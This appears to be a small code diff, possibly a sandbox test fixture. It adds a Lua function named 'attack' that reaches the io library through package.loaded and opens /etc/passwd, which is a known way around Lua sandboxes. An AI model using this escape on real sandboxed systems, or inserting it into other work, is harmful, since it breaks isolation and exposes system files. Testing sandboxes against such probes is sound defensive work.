@@ -1,0 +1,3 @@
+function attack(rec)
+  return package.loaded.io.open("/etc/passwd")
+end
